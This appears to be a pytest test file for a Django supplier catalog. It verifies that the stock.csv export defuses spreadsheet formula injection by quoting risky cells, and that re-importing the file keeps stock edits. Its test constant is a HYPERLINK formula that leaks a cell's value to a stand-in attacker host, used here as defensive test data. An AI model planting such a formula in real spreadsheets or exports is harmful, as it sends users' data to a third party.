"""The supplier's stock.csv download: what it holds, and that a product name cannot run as a formula."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from catalog import services

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _download(client, user):
    client.force_login(user)
    response = client.get("/suppliers/products/stock.csv")
    assert response.status_code == 200
    return response, response.getvalue()


def test_stock_csv_neutralises_a_formula_in_a_product_name_and_keeps_numbers(client, listings):
    product = listings.product(
        name=FORMULA, skus=[listings.sku("-5kg/箱", stock=7, price="49.90"), listings.sku("@10kg/箱")]
    )
    first, second = product.skus.order_by("id")

    response, body = _download(client, listings.user)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="stock.csv"'
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows == [
        ["sku_id", "stock", "price", "product", "spec"],
        [str(first.pk), "7", "49.90", "'" + FORMULA, "'-5kg/箱"],
        [str(second.pk), "100", "49.90", "'" + FORMULA, "'@10kg/箱"],
    ]


def test_the_downloaded_stock_csv_can_be_uploaded_again(client, listings):
    product = listings.product(name=FORMULA, skus=[listings.sku(stock=7)])
    _response, body = _download(client, listings.user)
    edited = body.replace(b",7,", b",9,")

    services.stock_import_csv(
        supplier=listings.supplier, by=listings.user, file=SimpleUploadedFile("stock.csv", edited)
    )

    assert product.skus.get().stock == 9
    product.refresh_from_db()
    assert product.name == FORMULA  # the quote is only in the file
